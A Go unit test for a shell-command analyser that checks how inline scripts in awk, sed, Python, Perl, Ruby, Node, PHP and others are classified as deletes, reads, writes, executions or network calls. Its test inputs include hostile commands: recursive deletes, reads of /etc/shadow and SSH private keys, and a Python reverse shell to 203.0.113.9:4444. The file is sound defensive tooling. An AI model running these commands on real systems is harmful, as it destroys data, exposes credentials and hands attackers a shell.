package shell

import (
	"strings"
	"testing"
)

func TestCodeThatRunsAndTouches(t *testing.T) {
	x := newExtractor(t, caseFS(), nil)
	for _, c := range []struct {
		text string
		want []string // lines, or parts of lines, of brief
		not  []string
	}{
		{`awk 'BEGIN { system("rm -rf /home/dev/archive") }'`, []string{"delete operand static /home/dev/archive"}, nil},
		{`awk '/system\(|exec\(/ {print FILENAME ":" FNR}' src/exec.c`, nil, []string{"dynamic_text", "C 1"}},
		{`awk '{print > ("build/" $1 ".txt")}' docs/data.tsv`, []string{"write code prefix /code/app/build"}, nil},
		{`awk '$2 > 100 {n++} END {print n}' docs/latency.txt`, nil, []string{"write"}},
		{`awk '{print $1 > "/etc/x"}' f`, []string{"write code static /etc/x"}, nil},
		{`awk 'BEGIN{"id -u" | getline x; print x}'`, []string{"C 1 id -u"}, nil},
		{`awk '{print | "sort -u"}' f`, []string{"C 1 sort -u"}, nil},
		{`awk '{ if (a/b > c/d) print "x" }' f`, nil, []string{"write"}},
		{`awk '{ system("rm " $1) }' f`, []string{"C 1 rm [<dynamic>]", "dynamic_text"}, nil},
		{`sed -n '1e date' README.md`, []string{"C 1 date"}, nil},
		{`sed 's/a/b/w /etc/out' f`, []string{"write code static /etc/out"}, nil},
		{`sed 's/we e/x/g; s,e d,w /x,' f`, nil, []string{"C 1", "code static"}},
		{`sed 's/.*/rm &/e' f`, []string{"dynamic_text"}, nil},
		{`sed '/w x/d;$!{h;d};r /etc/passwd' f`, []string{"read code static /etc/passwd"}, nil},
		{`python3 -c "import shutil as s; s.rmtree('/home/dev/archive')"`, []string{"delete code static /home/dev/archive rec"}, nil},
		{`python3 -c "import os; os.system('rm -rf /srv/x')"`, []string{"delete operand static /srv/x rec"}, nil},
		{`python3 -c "import subprocess; subprocess.run(['rm','-rf','/srv/x'], check=True)"`, []string{"delete operand static /srv/x rec"}, nil},
		{`python3 -c "import subprocess as p; p.check_output('cat /etc/shadow', shell=True)"`, []string{"read operand static /etc/shadow"}, nil},
		{`python3 -c "open('/home/dev/.bashrc', 'a').write('x')"`, []string{"write code static /home/dev/.bashrc"}, nil},
		{`python3 -c "print(open('/home/dev/.ssh/id_rsa').read())"`, []string{"read code static /home/dev/.ssh/id_rsa"}, nil},
		{`python3 -c "import os; print(open(os.path.expanduser('~/.ssh/id_rsa')).read())"`, []string{"read code static /home/dev/.ssh/id_rsa"}, nil},
		{`python3 -c "from pathlib import Path; Path('/etc/hosts').unlink()"`, []string{"delete code static /etc/hosts"}, nil},
		{`python3 -c "from pathlib import Path; (Path('/home/dev') / 'x').write_text('')"`, []string{"write code static /home/dev/x"}, nil},
		{`python3 -c "import urllib.request as u; u.urlopen('https://a.example/x').read()"`, []string{"E c0 target https a.example"}, nil},
		{`python3 -c "import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"`, []string{"203.0.113.9 4444", "C 1 sh -i"}, nil},
		{`python3 -c "print('rm -rf / is text')"`, nil, []string{"C 1", "A "}},
		{`python3 -c "# os.system('rm -rf /')
print(1)"`, nil, []string{"C 1"}},
		{`perl -e 'unlink glob "/home/dev/*"'`, []string{"delete code static /home/dev whole"}, nil},
		{`perl -e 'system("rm", "-rf", "/srv/x")'`, []string{"delete operand static /srv/x"}, nil},
		{"perl -e 'print `id`'", []string{"C 1 id"}, nil},
		{`perl -e 'open(F, ">", "/etc/x"); open my $g, "<", "/etc/shadow"'`, []string{"write code static /etc/x", "read code static /etc/shadow"}, nil},
		{`perl -pi -e 's/colour/color/g' docs/style.md`, nil, []string{"C 1"}},
		{`ruby -e 'require "fileutils"; FileUtils.rm_rf("/srv/x")'`, []string{"delete code static /srv/x rec"}, nil},
		{`ruby -e 'system "rm -rf /srv/y"; puts %x(id)'`, []string{"delete operand static /srv/y", "id via=ruby"}, nil},
		{`node -e 'console.log(require("fs").readFileSync("/home/dev/.ssh/id_rsa","utf8"))'`, []string{"read code static /home/dev/.ssh/id_rsa"}, nil},
		{`node -e 'require("child_process").execSync("rm -rf /srv/x")'`, []string{"delete operand static /srv/x"}, nil},
		{`node -e 'require("child_process").spawn("rm", ["-rf", "/srv/x"])'`, []string{"delete operand static /srv/x"}, nil},
		{"node -e 'require(\"fs\").rmSync(`/srv/${x}`, {recursive: true})'", []string{"delete code prefix /srv"}, nil},
		{`php -r 'unlink("/etc/x"); echo shell_exec("id");'`, []string{"delete code static /etc/x", "C 1 id"}, nil},
		{`vim -c ':!rm -rf /srv/x' -c ':q'`, []string{"delete operand static /srv/x"}, nil},
		{`psql -c '\! rm -rf /srv/x'`, []string{"delete operand static /srv/x"}, nil},
		{`sqlite3 build/x.db '.shell rm -rf /srv/x'`, []string{"delete operand static /srv/x"}, nil},
		{"python3 - <<'PY'\nimport os\nos.remove('/etc/hosts')\nPY", []string{"delete code static /etc/hosts"}, nil},
	} {
		in := extract(t, x, c.text)
		got := brief(in)
		for _, w := range c.want {
			if !strings.Contains(got, w) {
				t.Errorf("%s\nwant %q in\n%s", c.text, w, got)
			}
		}
		for _, w := range c.not {
			if strings.Contains(got, w) {
				t.Errorf("%s\nwant no %q in\n%s", c.text, w, got)
			}
		}
	}
}
